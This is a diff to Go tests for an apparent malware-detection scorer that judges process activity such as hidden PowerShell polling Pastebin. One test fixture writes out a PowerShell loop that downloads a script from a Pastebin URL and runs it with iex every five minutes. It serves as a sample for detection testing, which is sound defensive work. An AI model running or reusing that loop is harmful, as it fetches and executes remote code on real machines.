@@ -112,6 +112,8 @@ func TestTempWrite(t *testing.T) {
 			require.Equal(t, tt.want, TempWrite([]byte(tt.path)), tt.reason)
 		})
 	}
+	path := []byte(`C:\Users\jdoe\AppData\Local\Temp\tg.json`)
+	require.Zero(t, testing.AllocsPerRun(100, func() { TempWrite(path) }), "the map phase calls it on every file event")
 }
 
 func TestScriptCode(t *testing.T) {
@@ -152,18 +154,14 @@ func TestScriptBlock(t *testing.T) {
 	loop := b("while ($true) {\r\n  $c = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Xk2pQ9vB')\r\n  iex $c\r\n  Start-Sleep -Seconds 300\r\n}")
 	rng := rand.New(rand.NewSource(3))
 	poll := every(rng, 0, 86400, 300, 0.1, true)
-	tests := []struct {
-		name, reason string
-		a            Activity
-		check        func(t *testing.T, r *Result)
-	}{
+	tests := []judgeCase{
 		{
 			name: "file run, connections only", reason: "the baseline: hidden PowerShell polling Pastebin, nothing on what it runs",
 			a: Activity{Process: Event{Image: ps, CommandLine: fileRun}, Category: "pastebin", Hosts: [][]byte{b("pastebin.com")}, Requests: poll},
 			check: func(t *testing.T, r *Result) {
 				require.Empty(t, r.DownloadExecute)
 				require.False(t, r.Script)
-				require.Equal(t, w.Class["script_engine"]+w.Service+w.Polling+w.HiddenWindow+w.TempFile+w.TagCC*b2i(hasCC(r)), r.RiskScore, "%q", strs(r.Reasons))
+				require.Equal(t, w.Class["script_engine"]+w.Service+w.Polling+w.HiddenWindow+w.TempFile+w.TagCC*B2I(hasCC(r)), r.RiskScore, "%q", strs(r.Reasons))
 			},
 		},
 		{
@@ -239,15 +237,7 @@ func TestScriptBlock(t *testing.T) {
 			},
 		},
 	}
-	s := d.NewScorer()
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			require.NotEmpty(t, tt.reason)
-			r := s.Judge(&tt.a)
-			tt.check(t, r)
-			requireExplained(t, r)
-		})
-	}
+	runJudge(t, d, tests)
 }
 
 // TestJudgeTask: a task's creation is judged before it first runs.
@@ -304,8 +294,6 @@ func hasCC(r *Result) bool {
 	}
 	return false
 }
-
-func b2i(v bool) int { return B2I(v) }
 
 func TestScriptOfInterest(t *testing.T) {
 	d := testDetector(t)
